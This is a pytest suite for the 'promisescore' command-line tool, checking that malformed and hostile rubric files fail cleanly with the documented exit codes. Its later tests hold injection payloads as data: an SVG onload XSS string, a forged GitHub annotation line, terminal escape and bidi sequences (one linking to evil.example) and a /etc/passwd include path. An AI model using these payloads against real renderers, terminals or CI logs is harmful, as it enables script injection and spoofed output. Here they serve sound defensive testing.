"""Hostile input: every case gets a clear message and the documented exit code.

FORMAT.md §6: invalid rubric data exits 1; a top-level file that is missing, a
directory, a FIFO, unreadable or over the size limit exits 2. Every message names the
file (and the line where one is known), and no case prints a Python traceback. The
files are made in ``tmp_path`` at test time (the 200 MB file is sparse, so it costs no
disk). Memory and time on big inputs are measured by ``benchmarks/run.py``, not here.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import attrs
import pytest
from click.testing import CliRunner

import promisescore
from promisescore.cli import main
from promisescore.renderers import render

SRC = Path(__file__).resolve().parents[1] / "src"

BASE = """\
format = 1

[report]
title = "Hostile"
start = 2021-01-20
end = 2025-01-20

[scale]
preset = "politifact"

[[promises]]
id = "p1"
title = "Promise one"
deadline = "P100D"

[[evidence]]
id = "e1"
promise = "p1"
date = 2021-02-01
summary = "Something happened"
source = { title = "Order", kind = "record" }

[[assessments]]
promise = "p1"
date = 2021-03-01
rating = "kept"
evidence = ["e1"]
"""

# line numbers in BASE
WEIGHT_LINE = 14  # the `deadline` line of p1, replaced by `weight = ...`
RATING_LINE = 26


def _json_text(toml_text: str) -> str:
    import tomllib

    data = tomllib.loads(toml_text)

    def plain(value: object) -> object:
        if isinstance(value, dict):
            return {k: plain(v) for k, v in value.items()}
        if isinstance(value, list):
            return [plain(v) for v in value]
        if hasattr(value, "isoformat"):
            return value.isoformat()
        return value

    return json.dumps(plain(data), indent=2)


@attrs.frozen
class Case:
    """A hostile file: how to make it, the exit code of ``check`` and what it must say."""

    name: str
    make: Callable[[Path], Path]
    exit_code: int
    says: tuple[str, ...]
    line: int | None = None
    #: the file the message names, when not the one given (a problem in an included file)
    named: str | None = None


def _write(name: str, content: str | bytes) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8", newline="")
        return path

    return make


def _weight(value: str) -> str:
    return BASE.replace('deadline = "P100D"', f"weight = {value}")


def _include(tree: dict[str, str | None], root: str = "root.toml") -> Callable[[Path], Path]:
    """Files relative to tmp (``None`` content: a directory); returns tmp/root."""

    def make(tmp: Path) -> Path:
        for rel, content in tree.items():
            path = tmp / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if content is None:
                path.mkdir()
            elif content.startswith("->"):
                path.symlink_to(content[2:].strip())
            elif content == "|fifo":
                os.mkfifo(path)
            else:
                path.write_text(content, encoding="utf-8")
        return tmp / root

    return make


def _fifo(tmp: Path) -> Path:
    path = tmp / "pipe.toml"
    os.mkfifo(path)
    return path


def _directory(tmp: Path) -> Path:
    path = tmp / "folder.toml"
    path.mkdir()
    return path


def _sparse(size: int, name: str) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / name
        with path.open("wb") as handle:
            handle.truncate(size)
        return path

    return make


LONG = "x" * 100_000
DEEP_TOML = "format = 1\nx = " + "[" * 100_000 + "]" * 100_000 + "\n"
DEEP_JSON = '{"format": 1, "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
EXTREME_DATES = (
    BASE.replace("start = 2021-01-20", "start = 0001-01-01")
    .replace("end = 2025-01-20", "end = 9999-12-31")
    .replace('deadline = "P100D"', "deadline = 9999-12-31\nmade_on = 0001-01-01")
    .replace("date = 2021-02-01", "date = 0001-01-01")
    .replace("date = 2021-03-01", "date = 9999-12-31")
)
CYCLE_ROOT = 'include = ["sub/a.toml"]\n' + BASE
INCLUDED = '[[promises]]\nid = "p2"\ntitle = "Included"\n'

HUGE = "1" + "0" * 400  # an int no float can hold: float() raises OverflowError


def _line_of(text: str, needle: str = "0000000000") -> int:
    """The line of ``text`` holding ``needle`` (the huge number, or an escape)."""
    return text[: text.index(needle)].count("\n") + 1


HUGE_TOML: dict[str, str] = {
    "promise-weight": _weight(HUGE),
    "category-weight": BASE.replace(
        'title = "Promise one"', 'title = "Promise one"\ncategory = "c"'
    )
    + f'\n[[categories]]\nid = "c"\ntitle = "C"\nweight = {HUGE}\n',
    "criterion-weight": BASE.replace(
        'deadline = "P100D"', f'criteria = [{{ id = "c1", title = "C", weight = {HUGE} }}]'
    ),
    "target-baseline": BASE.replace(
        'deadline = "P100D"', f'target = {{ metric = "m", baseline = {HUGE}, target = 1 }}'
    ),
    "target-target": BASE.replace(
        'deadline = "P100D"', f'target = {{ metric = "m", baseline = 0, target = -{HUGE} }}'
    ),
    "evidence-value": BASE.replace(
        'summary = "Something happened"', f'summary = "S"\nvalue = {HUGE}'
    ),
    "band-min": BASE + f'\n[grading]\nbands = [{{ grade = "A", min = {HUGE} }}]\n',
    "level-value": BASE.replace(
        'preset = "politifact"',
        f'levels = [{{ id = "kept", label = "Kept", value = {HUGE}, final = true }}]',
    ),
    "percent-value": BASE.replace('preset = "politifact"', 'preset = "percent"').replace(
        'rating = "kept"', f"value = {HUGE}"
    ),
}
HUGE_JSON: dict[str, str] = {
    place: _json_text(HUGE_TOML[place])
    for place in ("promise-weight", "evidence-value", "target-baseline", "band-min")
}
SURROGATE_JSON: dict[str, str] = {
    "title": _json_text(BASE).replace('"Promise one"', '"Promise \\ud800 one"'),
    "by": _json_text(BASE.replace('rating = "kept"', 'rating = "kept"\nby = "BY"')).replace(
        '"BY"', '"x\\udfff"'
    ),
    "key": _json_text(BASE).replace('"title": "Promise one"', '"title": "P", "\\ud83d": 1'),
    "meta": _json_text(BASE).replace(
        '"title": "Promise one"', '"title": "P", "meta": {"note": "\\udc00"}'
    ),
}

CASES: tuple[Case, ...] = (
    Case("invalid-utf8", _write("bad.toml", b'format = 1\ntitle = "\xff\xfe"\n'), 1, ("E002",), 2),
    Case("bom", _write("bom.toml", "\ufeff" + BASE), 0, ("ok",)),
    Case(
        "bom-error-line",
        _write("bom2.toml", "\ufeff" + BASE.replace('"kept"', '"kep"')),
        1,
        ("E305", "did you mean 'kept'"),
        RATING_LINE,
    ),
    Case("crlf", _write("crlf.toml", BASE.replace("\n", "\r\n")), 0, ("ok",)),
    Case(
        "crlf-error-line",
        _write("crlf2.toml", BASE.replace('"kept"', '"kep"').replace("\n", "\r\n")),
        1,
        ("E305",),
        RATING_LINE,
    ),
    Case(
        "crlf-json-error-line",
        _write("crlf.json", _json_text(BASE).replace('"kept"', '"kep"').replace("\n", "\r\n")),
        1,
        ("E305",),
    ),
    Case("deep-toml", _write("deep.toml", DEEP_TOML), 1, ("E009", "nested too deeply")),
    Case("deep-json", _write("deep.json", DEEP_JSON), 1, ("E009", "nested too deeply")),
    Case("long-title", _write("long.toml", BASE.replace('"Promise one"', f'"{LONG}"')), 0, ("ok",)),
    Case(
        "long-unknown-reference",
        _write(
            "longref.toml",
            BASE.replace('promise = "p1"\ndate = 2021-03', f'promise = "{LONG}"\ndate = 2021-03'),
        ),
        1,
        ("E301", "characters]"),
        24,
    ),
    Case("weight-nan", _write("nan.toml", _weight("nan")), 1, ("E203", "not nan"), WEIGHT_LINE),
    Case("weight-inf", _write("inf.toml", _weight("inf")), 1, ("E203", "not inf"), WEIGHT_LINE),
    Case("weight-neg-inf", _write("ninf.toml", _weight("-inf")), 1, ("E203",), WEIGHT_LINE),
    Case("weight-negative", _write("neg.toml", _weight("-1")), 1, ("E203", "-1"), WEIGHT_LINE),
    Case("weight-zero", _write("zero.toml", _weight("0")), 1, ("E203", "> 0"), WEIGHT_LINE),
    Case("weight-overflow", _write("huge.toml", _weight("1e400")), 1, ("E203",), WEIGHT_LINE),
    Case(
        "weight-json-nan",
        _write("nan.json", _json_text(BASE).replace('"deadline": "P100D"', '"weight": NaN')),
        1,
        ("E003", "NaN"),
        15,
    ),
    Case(
        "weight-json-infinity",
        _write("inf.json", _json_text(BASE).replace('"deadline": "P100D"', '"weight": -Infinity')),
        1,
        ("E003", "Infinity"),
        15,
    ),
    Case(
        "weights-sum-overflows",
        _write(
            "sum.toml",
            _weight("1e308")
            + '\n[[promises]]\nid = "p2"\ntitle = "Two"\nweight = 1.7976931348623157e308\n',
        ),
        1,
        ("E203", "add up to more than"),
        32,
    ),
    Case("extreme-dates", _write("dates.toml", EXTREME_DATES), 0, ("ok",)),
    Case(
        "deadline-past-9999",
        _write("d9999.toml", BASE.replace('"P100D"', '"P9999Y"')),
        1,
        ("E206", "after year 9999"),
        14,
    ),
    Case(
        "deadline-days-past-9999",
        _write(
            "d9999d.toml",
            BASE.replace("start = 2021-01-20", "start = 9999-12-01").replace(
                "end = 2025-01-20", ""
            ),
        ),
        1,
        ("E206", "out of range"),
        WEIGHT_LINE,
    ),
    Case(
        "duplicate-key-toml",
        _write("dup.toml", BASE.replace('title = "Promise one"', 'title = "a"\ntitle = "b"')),
        1,
        ("E105",),
        14,
    ),
    Case(
        "duplicate-key-json",
        _write("dup.json", '{"format": 1,\n "report": {"title": "a",\n  "title": "b"}}'),
        1,
        ("E105", "'title'"),
        3,
    ),
    Case(
        "duplicate-table-toml",
        _write("dup2.toml", BASE + '\n[report]\ntitle = "again"\n'),
        1,
        ("E105",),
        29,
    ),
    Case(
        "include-cycle",
        _include(
            {
                "root.toml": CYCLE_ROOT,
                "sub/a.toml": 'include = ["b.toml"]\n',
                "sub/b.toml": 'include = ["a.toml"]\n',
            }
        ),
        1,
        ("E007", "sub/a.toml -> ", "sub/b.toml"),
    ),
    Case(
        "include-self",
        _include({"root.toml": 'include = ["root.toml"]\n' + BASE}),
        1,
        ("E007",),
    ),
    Case(
        "include-dotdot",
        _include({"root.toml": CYCLE_ROOT, "sub/a.toml": 'include = ["../root.toml"]\n'}),
        1,
        ("E006", "'../root.toml'", "leaves the directory"),
    ),
    Case(
        "include-absolute",
        _include({"root.toml": 'include = ["/etc/passwd.toml"]\n' + BASE}),
        1,
        ("E006",),
    ),
    Case(
        "include-symlink-out",
        _include(
            {
                "outside/x.toml": INCLUDED,
                "tree/root.toml": 'include = ["link.toml"]\n' + BASE,
                "tree/link.toml": "-> ../outside/x.toml",
            },
            root="tree/root.toml",
        ),
        1,
        ("E006", "symbolic link"),
    ),
    Case(
        "include-glob-symlink-out",
        _include(
            {
                "outside/x.toml": INCLUDED,
                "tree/root.toml": 'include = ["parts/*.toml"]\n' + BASE,
                "tree/parts/link.toml": "-> ../../outside/x.toml",
            },
            root="tree/root.toml",
        ),
        1,
        ("E006",),
    ),
    Case(
        "include-directory",
        _include({"root.toml": 'include = ["dir.toml"]\n' + BASE, "dir.toml": None}),
        1,
        ("E001", "directory"),
        named="dir.toml",
    ),
    Case(
        "include-fifo",
        _include({"root.toml": 'include = ["*.toml"]\n' + BASE, "pipe.toml": "|fifo"}),
        1,
        ("E001", "not a regular file"),
        named="pipe.toml",
    ),
    Case("directory", _directory, 2, ("is a directory",)),
    Case("fifo", _fifo, 2, ("not a regular file",)),
    Case("missing", lambda tmp: tmp / "nope.toml", 2, ("no such file",)),
    Case("wrong-extension", _write("rubric.yaml", BASE), 2, ("unsupported file type",)),
    Case("nul-bytes-200mb", _sparse(200 * 2**20, "big.json"), 1, ("E003",), 1),
    *(
        Case(f"huge-int-{place}", _write(f"huge-{place}.{ext}", text), 1, ("E011",), _line_of(text))
        for place, ext, text in ((place, "toml", text) for place, text in HUGE_TOML.items())
    ),
    *(
        Case(
            f"huge-int-{place}-json",
            _write(f"huge-{place}.json", text),
            1,
            ("E011",),
            _line_of(text),
        )
        for place, text in HUGE_JSON.items()
    ),
    Case(
        "huge-int-5000-digits",
        _write("huge5000.toml", _weight("9" * 5000)),
        1,
        ("E011", "too large"),
        WEIGHT_LINE,
    ),
    Case(
        "huge-int-5000-digits-json",
        _write(
            "huge5000.json",
            _json_text(BASE).replace('"deadline": "P100D"', '"weight": ' + "9" * 5000),
        ),
        1,
        ("E011",),
        15,
    ),
    Case("huge-int-hex", _write("hex.toml", _weight("0x" + "f" * 300)), 1, ("E011",), WEIGHT_LINE),
    Case(
        "huge-int-underscores",
        _write("under.toml", _weight("1" + "_000" * 110)),
        1,
        ("E011",),
        WEIGHT_LINE,
    ),
    *(
        Case(
            f"lone-surrogate-{place}",
            _write(f"sur-{place}.json", text),
            1,
            ("E012",),
            _line_of(text, "\\ud"),
        )
        for place, text in SURROGATE_JSON.items()
    ),
    Case(
        "unicode-digits-in-duration",
        _write("digits.toml", BASE.replace('"P100D"', '"P\u0661\u0660\u0660D"')),
        1,
        ("E206",),
        WEIGHT_LINE,
    ),
    Case(
        "include-glob-matches-itself",
        _include({"root.toml": 'include = ["*.toml"]\n' + BASE, "more.toml": INCLUDED}),
        0,
        ("ok",),
    ),
    Case(
        "include-two-dotdot-links",
        _include(
            {
                "root.toml": 'include = ["**/*.toml"]\n' + BASE,
                "sub/more.toml": INCLUDED,
                "sub/up": "-> ..",
                "sub/deeper/up": "-> ../..",
            }
        ),
        0,
        ("ok",),
    ),
    Case(
        "include-symlink-loop",
        _include({"root.toml": 'include = ["loop.toml"]\n' + BASE, "loop.toml": "-> loop.toml"}),
        1,
        ("E005", "symbolic link loop"),
        1,
    ),
    Case(
        "include-missing-has-a-line",
        _include({"root.toml": 'include = ["nothing/*.toml"]\n' + BASE}),
        1,
        ("E005",),
        1,
    ),
    Case(
        "include-outside-has-a-line",
        _include({"root.toml": 'include = ["../x.toml"]\n' + BASE}),
        1,
        ("E006",),
        1,
    ),
    Case(
        "top-level-symlink-loop",
        _include({"loop.toml": "-> loop.toml"}, root="loop.toml"),
        2,
        ("symbolic links",),
    ),
)


def _output(result: object) -> str:
    return str(getattr(result, "output", ""))


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_check_reports_hostile_input(case: Case, tmp_path: Path) -> None:
    path = case.make(tmp_path)
    result = CliRunner().invoke(main, ["check", str(path)])
    out = _output(result)
    assert isinstance(result.exception, SystemExit | None), out
    assert result.exit_code == case.exit_code, out
    assert "Traceback" not in out
    assert path.name in out
    for text in case.says:
        assert text in out, out
    if case.line is not None:
        assert f"{path.name}:{case.line}:" in out, out


SCORED = [c for c in CASES if c.name != "nul-bytes-200mb"]


@pytest.mark.parametrize("case", SCORED, ids=[c.name for c in SCORED])
def test_score_json_on_hostile_input(case: Case, tmp_path: Path) -> None:
    path = case.make(tmp_path)
    result = CliRunner().invoke(main, ["score", str(path), "--format", "json"])
    out = _output(result)
    assert isinstance(result.exception, SystemExit | None), out
    assert result.exit_code == case.exit_code, out
    assert "Traceback" not in out
    if case.exit_code == 0:
        data = json.loads(result.stdout)
        assert data["schema_version"] == 1
    else:
        assert (case.named or path.name) in out


def test_too_big_file_is_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _sparse(200 * 2**20, "big.toml")(tmp_path)
    monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", str(100 * 2**20))
    result = CliRunner().invoke(main, ["check", str(path)])
    assert result.exit_code == 2
    assert "209,715,200 bytes, over the limit of 104,857,600" in result.output
    assert "PROMISESCORE_MAX_FILE_BYTES" in result.output


def test_too_big_included_file_is_a_finding(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _include({"root.toml": 'include = ["big.toml"]\n' + BASE})(tmp_path)
    _sparse(4096, "big.toml")(tmp_path)
    monkeypatch.setenv("PROMISESCORE_MAX_FILE_BYTES", "2048")
    result = CliRunner().invoke(main, ["check", str(root)])
    assert result.exit_code == 1
    assert "big.toml: E001" in result.output


def test_extreme_dates_score_and_explain(tmp_path: Path) -> None:
    path = _write("dates.toml", EXTREME_DATES)(tmp_path)
    rubric = promisescore.load(path)
    for as_of in ("0001-01-01", "9999-12-31", None):
        card = promisescore.score(rubric, as_of=as_of)
        for fmt in ("text", "json", "markdown", "csv"):
            assert render(card, fmt)
    result = CliRunner().invoke(main, ["explain", str(path), "p1", "--as-of", "9999-12-31"])
    assert result.exit_code == 0, result.output
    assert "Deadline 9999-12-31" in result.output


def test_library_raises_only_its_own_errors(tmp_path: Path) -> None:
    for case in CASES:
        if case.name == "nul-bytes-200mb":
            continue
        home = tmp_path / case.name
        home.mkdir()
        path = case.make(home)
        error: Exception | None = None
        try:
            promisescore.load(path)
        except promisescore.PromisescoreError as exc:
            error = exc
        if case.exit_code == 0:
            assert error is None, case.name
        elif case.exit_code == 2:
            assert isinstance(error, promisescore.InputFileError), case.name
        else:
            assert isinstance(error, promisescore.RubricError), case.name


SUBPROCESS = (
    "invalid-utf8",
    "deep-json",
    "fifo",
    "directory",
    "include-cycle",
    "weights-sum-overflows",
    "huge-int-promise-weight",
    "huge-int-5000-digits-json",
    "lone-surrogate-by",
    "include-symlink-loop",
    "top-level-symlink-loop",
)


@pytest.mark.parametrize("name", SUBPROCESS)
def test_real_subprocess(name: str, tmp_path: Path) -> None:
    case = next(c for c in CASES if c.name == name)
    path = case.make(tmp_path)
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    proc = subprocess.run(
        [sys.executable, "-m", "promisescore", "score", str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert proc.returncode == case.exit_code, proc.stderr
    assert "Traceback" not in proc.stderr + proc.stdout
    assert path.name in proc.stderr


def test_problems_in_included_files_keep_their_file_and_line(tmp_path: Path) -> None:
    evidence = (
        '[[evidence]]\nid = "{id}"\npromise = "{promise}"\ndate = 2021-02-0{day}\n'
        'summary = "s"\nsource = "x"\n\n'
    )
    first = "".join(evidence.format(id=f"a{i}", promise="p1", day=i + 1) for i in range(3))
    second = evidence.format(id="b0", promise="p1", day=1) + evidence.format(
        id="b1", promise="nope", day=2
    )
    root = _include(
        {
            "root.toml": 'include = ["parts/*.toml"]\n' + BASE,
            "parts/a.toml": first,
            "parts/b.toml": second,
        }
    )(tmp_path)
    result = promisescore.check(root)
    (problem,) = result.errors
    assert problem.code == "E301"
    assert problem.file is not None
    assert problem.file.endswith("parts/b.toml")
    assert problem.line == 10  # the `promise` line of b.toml's second table
    assert result.rubric is None


# =========================================================================== round two
# Issue 19: a second round of hostile input, found by probing the released CLI. Each
# reproduction ends in a clear message with the documented exit code, no traceback, no
# hang, and nothing replaced that was not a regular output file.


def _rubric(tmp: Path, text: str, name: str = "r.toml") -> Path:
    path = tmp / name
    path.write_text(text, encoding="utf-8")
    return path


def _invoke(args: list[str]) -> Any:
    result = CliRunner().invoke(main, args)
    assert isinstance(result.exception, SystemExit | None), result.output
    assert "Traceback" not in result.output
    return result


# -- 1. the SVG badge ------------------------------------------------------------------

ATTACK = 'A" onload="alert(document.domain)" x="'


def _attributes(svg: str) -> set[str]:
    import xml.etree.ElementTree as ET

    return {name for element in ET.fromstring(svg).iter() for name in element.attrib}


def test_badge_label_cannot_add_an_event_handler(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    result = _invoke(["badge", str(path), "--label", ATTACK])
    assert result.exit_code == 0
    assert "onload" not in _attributes(result.stdout)
    import xml.etree.ElementTree as ET

    root = ET.fromstring(result.stdout)
    assert root.attrib["aria-label"].startswith(ATTACK + ": ")


def test_badge_grade_cannot_add_an_event_handler(tmp_path: Path) -> None:
    bands = f"\n[grading]\nbands = [{{ grade = '{ATTACK}', min = 0 }}]\n"
    path = _rubric(tmp_path, BASE + bands)
    result = _invoke(["badge", str(path)])
    assert result.exit_code == 0, result.output
    assert "onload" not in _attributes(result.stdout)
    assert "&quot;" in result.stdout


# -- 2. huge integers --------------------------------------------------------------------


@pytest.mark.parametrize("place", sorted(HUGE_TOML))
@pytest.mark.parametrize("command", ["score", "report", "badge", "export"])
def test_huge_int_fails_every_command_cleanly(place: str, command: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, HUGE_TOML[place])
    args = [command, str(path)] + (["--to", str(tmp_path / "out")] if command == "export" else [])
    result = _invoke(args)
    assert result.exit_code == 1, result.output
    assert "E011" in result.output
    assert "OverflowError" not in result.output


@pytest.mark.parametrize("place", sorted(HUGE_TOML))
def test_loads_raises_rubric_error_for_huge_int(place: str) -> None:
    with pytest.raises(promisescore.RubricError) as caught:
        promisescore.loads(HUGE_TOML[place])
    huge = [p for p in caught.value.errors if p.code == "E011"]
    assert [p.line for p in huge] == [_line_of(HUGE_TOML[place])]
    assert "401-digit number" in huge[0].message


def test_huge_int_in_meta_is_kept_as_written(tmp_path: Path) -> None:
    """``meta`` is free-form and never computed with: a huge int there loads, renders
    in every format and survives a round trip."""
    text = BASE.replace('title = "Promise one"', f'title = "Promise one"\nmeta = {{ n = {HUGE} }}')
    rubric = promisescore.loads(text)
    assert rubric.promises[0].meta["n"] == int(HUGE)
    assert promisescore.loads(promisescore.dumps(rubric)) == rubric
    assert promisescore.loads(promisescore.dumps(rubric, "json"), "json") == rubric
    card = promisescore.score(rubric)
    for fmt in ("text", "json", "markdown", "csv", "html", "badge"):
        assert render(card, fmt)
    path = _rubric(tmp_path, text)
    assert _invoke(["export", str(path), "--to", str(tmp_path / "out")]).exit_code == 0


def test_huge_int_in_code_is_a_rubric_error_not_overflow() -> None:
    from promisescore.model import Category, Criterion, Evidence, GradeBand, Promise, Target

    builders: list[Callable[[], object]] = [
        lambda: Promise("p", "P", weight=10**400),
        lambda: Category("c", "C", weight=10**400),
        lambda: Criterion("c", "C", weight=-(10**5000)),
        lambda: Target("m", 10**400, 1),
        lambda: GradeBand("A", 10**400),
        lambda: Evidence("e", "p", date(2021, 1, 1), "s", promisescore.Source("x"), value=10**400),
    ]
    for build in builders:
        with pytest.raises(promisescore.RubricError) as caught:
            build()
        assert "too large" in str(caught.value) or "finite" in str(caught.value)


def test_huge_number_in_a_csv_cell(tmp_path: Path) -> None:
    from promisescore.csvio import CsvText, ReportInfo, import_tables

    header = "id,title,weight,criteria\n"
    cells = [
        f"p1,One,{HUGE},\n",  # a number cell: infinite, refused as a weight
        f'p1,One,1,"[{{""id"": ""c"", ""title"": ""C"", ""weight"": {HUGE}}}]"\n',
    ]
    for row in cells:
        with pytest.raises(promisescore.RubricError) as caught:
            import_tables(
                CsvText("promises.csv", header + row),
                scale="politifact",
                report=ReportInfo("T", date(2021, 1, 1)),
            )
        assert all(p.line == 2 for p in caught.value.errors), caught.value.problems
        assert {p.code for p in caught.value.errors} <= {"E011", "E203"}


def test_huge_fail_under_in_pyproject(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _rubric(tmp_path, BASE)
    (tmp_path / "pyproject.toml").write_text(f"[tool.promisescore]\nfail_under = {HUGE}\n")
    monkeypatch.chdir(tmp_path)
    result = _invoke(["check", str(path)])
    assert result.exit_code == 2
    assert "fail_under must be between 0 and 1" in result.output


# -- 3. lone surrogates ------------------------------------------------------------------


@pytest.mark.parametrize("place", sorted(SURROGATE_JSON))
@pytest.mark.parametrize("command", ["check", "score", "report", "explain"])
def test_lone_surrogate_is_refused_at_load(place: str, command: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, SURROGATE_JSON[place], "r.json")
    args = [command, str(path)] + (["p1"] if command == "explain" else [])
    result = _invoke(args)
    assert result.exit_code == 1, result.output
    assert "E012" in result.output
    assert "UnicodeEncodeError" not in result.output


def test_loads_refuses_raw_surrogates_in_a_string() -> None:
    text = BASE.replace('"Promise one"', '"Promise \ud800 one"')
    with pytest.raises(promisescore.RubricError) as caught:
        promisescore.loads(text)
    assert [p.code for p in caught.value.errors] == ["E012"]
    assert caught.value.errors[0].line == 13


# -- 4. -o never replaces what is not a regular file ---------------------------------------


def test_output_to_a_device_keeps_the_device(tmp_path: Path) -> None:
    """``-o /dev/null`` as root: tested on a private node with the same device numbers
    as /dev/null (made in tmp_path), so a regression never replaces the real one."""
    import stat

    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, OSError):
        pytest.skip("making a device node needs root (as in a CI container)")
    path = _rubric(tmp_path, BASE)
    before = os.stat(device)
    result = _invoke(["report", str(path), "-o", str(device)])
    assert result.exit_code == 0, result.output
    after = os.stat(device)
    assert stat.S_ISCHR(after.st_mode)
    assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    link = tmp_path / "null-link"
    link.symlink_to(device)
    assert _invoke(["badge", str(path), "-o", str(link)]).exit_code == 0
    assert link.is_symlink()
    assert stat.S_ISCHR(os.stat(device).st_mode)


def test_output_dev_stdout_writes_where_the_shell_points(tmp_path: Path) -> None:
    """``-o /dev/stdout >> log``: appended to the log (the same file, not replaced)."""
    path = _rubric(tmp_path, BASE)
    log = tmp_path / "log.txt"
    log.write_text("first line\n")
    inode = log.stat().st_ino
    with log.open("ab") as handle:
        proc = subprocess.run(
            [sys.executable, "-m", "promisescore", "report", str(path), "-o", "/dev/stdout"],
            stdout=handle,
            stderr=subprocess.PIPE,
            text=False,
            env={**os.environ, "PYTHONPATH": str(SRC)},
            timeout=60,
            check=False,
        )
    assert proc.returncode == 0, proc.stderr
    assert log.stat().st_ino == inode
    assert log.read_text().startswith("first line\nHostile\n")


def test_output_symlink_writes_its_target_and_stays_a_link(tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    target = tmp_path / "real.md"
    target.write_text("old\n")
    link = tmp_path / "link.md"
    link.symlink_to("real.md")
    result = _invoke(["report", str(path), "--format", "markdown", "-o", str(link)])
    assert result.exit_code == 0, result.output
    assert link.is_symlink()
    assert target.read_text().startswith("## Hostile")
    dangling = tmp_path / "dangling.md"
    dangling.symlink_to("new.md")
    assert _invoke(["report", str(path), "-o", str(dangling)]).exit_code == 0
    assert dangling.is_symlink()
    assert (tmp_path / "new.md").read_text().startswith("Hostile")


def test_output_fifo_is_written_through(tmp_path: Path) -> None:
    import threading

    path = _rubric(tmp_path, BASE)
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = _invoke(["report", str(path), "-o", str(fifo)])
    reader.join(timeout=30)
    assert result.exit_code == 0, result.output
    assert received
    assert received[0].startswith(b"Hostile")
    assert fifo.is_fifo()


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (lambda tmp: str(tmp / "loop"), "symbolic link loop"),
        (lambda tmp: "", "empty path"),
        (lambda tmp: str(tmp), "is a directory"),
        (lambda tmp: str(tmp / "input-link.toml"), "it is an input file"),
    ],
    ids=["symlink-loop", "empty", "directory", "symlink-to-input"],
)
def test_output_refused_clearly(make: Callable[[Path], str], says: str, tmp_path: Path) -> None:
    path = _rubric(tmp_path, BASE)
    (tmp_path / "loop").symlink_to("loop")
    (tmp_path / "input-link.toml").symlink_to(path)
    result = _invoke(["report", str(path), "-o", make(tmp_path)])
    assert result.exit_code == 2, result.output
    assert says in result.output
    assert path.read_text() == BASE
    assert (tmp_path / "input-link.toml").is_symlink()


def test_library_write_atomic_refuses_a_symlink_loop(tmp_path: Path) -> None:
    from promisescore.safe_write import OutputError, refuse_inputs, write_atomic

    loop = tmp_path / "loop"
    loop.symlink_to("loop")
    refuse_inputs(loop, [tmp_path / "input.toml"])  # no RuntimeError from Path.resolve
    with pytest.raises(OutputError, match="symbolic link loop"):
        write_atomic(loop, "x")


# -- 5. newlines cannot forge lines -----------------------------------------------------------

FORGED = "x\n::error file=README.md,line=1::forged"


def test_check_github_cannot_be_forged_by_an_assessor(tmp_path: Path) -> None:
    text = BASE.replace('rating = "kept"', f'rating = "kept"\nby = """{FORGED}"""')
    path = _rubric(tmp_path, text)
    result = _invoke(["check", str(path), "--format", "github", "--strict"])
    commands = [line for line in result.stdout.splitlines() if line.lstrip().startswith("::")]
    assert not any("README.md" in line for line in commands), result.stdout
    assert "forged" in result.stdout  # shown, escaped, on a line of its own kind


def test_check_github_cannot_be_forged_by_a_file_name(tmp_path: Path) -> None:
    folder = tmp_path / "::error file=README.md,line=1::forged"
    folder.mkdir()
    path = _rubric(folder, BASE.replace('rating = "kept"', 'rating = "kep"'))
    result = _invoke(["check", str(path), "--format", "github"])
    assert result.exit_code == 1
    for line in result.stdout.splitlines():
        if line.startswith("::"):
            assert line.startswith("::error file=")
            assert "README.md," not in line
        assert not line.lstrip().startswith("::error file=README.md")


def test_text_problem_lines_cannot_be_forged(tmp_path: Path) -> None:
    fake = "\nr.toml:1: E999 forged problem"
    text = BASE.replace('rating = "kept"', f'rating = "kept{fake}"'.replace("\n", "\\n"))
    path = _rubric(tmp_path, text)
    result = _invoke(["check", str(path)])
    assert result.exit_code == 1
    assert not any(line.startswith("r.toml:1: E999") for line in result.output.splitlines())
    assert "\\nr.toml:1: E999" in result.output


# -- 6. terminal escapes and bidi overrides -------------------------------------------------

ESCAPES = "\x1b]0;pwned\x07 \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x1b[2J \u202eevil"


def _escaped_rubric(tmp: Path) -> Path:
    title = json.dumps(ESCAPES)
    text = (
        BASE.replace('title = "Hostile"', f"title = {title}")
        .replace('title = "Promise one"', f"title = {title}")
        .replace('rating = "kept"', f'rating = "kept"\nnote = {title}\nby = {title}')
        .replace('summary = "Something happened"', f"summary = {title}")
    )
    return _rubric(tmp, text)


@pytest.mark.parametrize(
    "args",
    [
        ["report"],
        ["report", "--format", "markdown"],
        ["score"],
        ["explain", "{path}", "p1"],
        ["timeline"],
        ["check", "--strict"],
        ["check", "--format", "github"],
        ["diff", "{path}@2021-02-01", "{path}"],
        ["compare"],
        ["compare", "--format", "markdown"],
    ],
    ids=lambda a: "-".join(x for x in a if not x.startswith("{")),
)
def test_terminal_escapes_never_reach_the_terminal(args: list[str], tmp_path: Path) -> None:
    path = _escaped_rubric(tmp_path)
    argv = [a.replace("{path}", str(path)) for a in args]
    if not any("{path}" in a for a in args):
        argv.insert(1, str(path))
    result = _invoke(argv)
    assert result.exit_code in (0, 1), result.output
    for char in ("\x1b", "\x07", "\u202e", "\x9b"):
        assert char not in result.output, (char, result.output)
